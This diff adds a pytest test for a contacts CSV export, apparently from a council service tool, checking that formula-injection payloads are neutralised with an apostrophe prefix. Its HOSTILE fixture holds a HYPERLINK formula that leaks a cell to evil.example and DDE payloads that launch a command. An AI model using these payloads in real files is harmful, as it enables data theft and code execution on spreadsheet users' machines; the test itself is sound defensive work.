@@ -1,0 +1,84 @@
+"""``civicpulse contacts export --format csv`` on a real database: no cell runs as a formula."""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from sqlalchemy import Engine
+from typer.testing import CliRunner
+
+from civicpulse.cli import app
+from contracts import (
+    Categorisation,
+    Channel,
+    ContactClassified,
+    ContactReceived,
+    ContactType,
+    LabelSource,
+    contact_id_for,
+)
+from sinks import PublicWording, SqlContactSink
+
+runner = CliRunner()
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "dde": "=cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+}
+
+
+@pytest.fixture()
+def stored(engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Engine:
+    monkeypatch.setenv("CIVICPULSE_HOME", str(tmp_path / "home"))
+    monkeypatch.setenv("CIVICPULSE_DATABASE_URL", engine.url.render_as_string(hide_password=False))
+    sink = SqlContactSink(engine)
+    for ref, text in HOSTILE.items():
+        contact = ContactReceived(
+            contact_id=contact_id_for("csv", ref),
+            received_at=datetime(2025, 10, 6, 9, tzinfo=UTC),
+            channel=Channel.web,
+            source_system="csv",
+            source_ref=f"-{ref}",
+            text=text,
+            subject=text,
+            ward=text.strip()[:40],
+        )
+        labels = Categorisation(
+            contact_type=ContactType.complaint,
+            service="waste_recycling",
+            category="fly_tipping",
+            confidence=0.9,
+            label_source=LabelSource.model,
+        )
+        sink.add(
+            contact, ContactClassified.of(contact.contact_id, labels), PublicWording(text, text)
+        )
+    sink.flush()
+    return engine
+
+
+def test_export_csv_neutralises_formula_cells(stored: Engine, tmp_path: Path) -> None:
+    out = tmp_path / "export.csv"
+    done = runner.invoke(app, ["contacts", "export", "--format", "csv", "--output", str(out)])
+    assert done.exit_code == 0, done.output
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    by_ref = {row["source_ref"]: row for row in rows}
+    assert set(by_ref) == {f"'-{ref}" for ref in HOSTILE}
+    for ref, text in HOSTILE.items():
+        row = by_ref[f"'-{ref}"]
+        assert (row["text"], row["subject"]) == (f"'{text}", f"'{text}")
+        assert row["ward"] == f"'{text.strip()[:40]}"
+        assert float(row["confidence"]) == 0.9  # figures stay figures
+
+
+def test_export_jsonl_keeps_the_text_as_stored(stored: Engine, tmp_path: Path) -> None:
+    out = tmp_path / "export.jsonl"
+    done = runner.invoke(app, ["contacts", "export", "--format", "jsonl", "--output", str(out)])
+    assert done.exit_code == 0, done.output
+    texts = {json.loads(line)["text"] for line in out.read_text(encoding="utf-8").splitlines()}
+    assert texts == set(HOSTILE.values())  # JSON is not a spreadsheet: nothing to neutralise
